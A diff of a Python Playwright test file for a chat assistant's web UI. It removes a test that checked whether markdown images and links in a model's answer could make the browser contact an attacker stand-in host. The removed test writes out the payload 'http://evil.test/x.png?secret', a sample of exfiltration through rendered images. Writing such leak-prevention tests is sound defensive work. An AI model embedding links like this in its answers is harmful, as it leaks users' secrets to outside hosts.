@@ -2,7 +2,6 @@
 
 from playwright.sync_api import expect
 
-from tests.fakes.browser import Outside
 from tests.fakes.scripted import ModelRequest, Reply, call, calls, say, stall
 from tests.ui.chat import ANSWER_MS, Chat
 from tests.ui.site import Site
@@ -63,20 +62,6 @@ def test_a_model_that_stalls_is_stopped_and_what_it_said_is_kept(site: Site, cha
         chat.page.locator("#stop-button").click()
         expect(chat.answer("Stopped")).to_be_visible(timeout=ANSWER_MS)
     expect(chat.answer("Let me think")).to_be_visible()
-
-
-def test_pictures_and_links_in_an_answer_make_the_browser_ask_nobody(
-    site: Site, chat: Chat, outside: Outside
-) -> None:
-    text = "Look: ![cat](http://evil.test/x.png?secret) and [more](http://evil.test/y)"
-    with site.thinking(lambda _: say(text)):
-        chat.say("tell me a story about a cat that lives in a data centre")
-        expect(chat.answer("Look:").get_by_role("link", name="more")).to_be_visible(
-            timeout=ANSWER_MS
-        )
-        chat.settle()
-    expect(chat.answer("Look:").locator("img[alt=cat]")).to_have_js_property("complete", True)
-    assert not outside.heard_of("evil.test")
 
 
 def test_a_sentence_jarvis_does_not_know_offers_choices_that_can_be_clicked(chat: Chat) -> None:
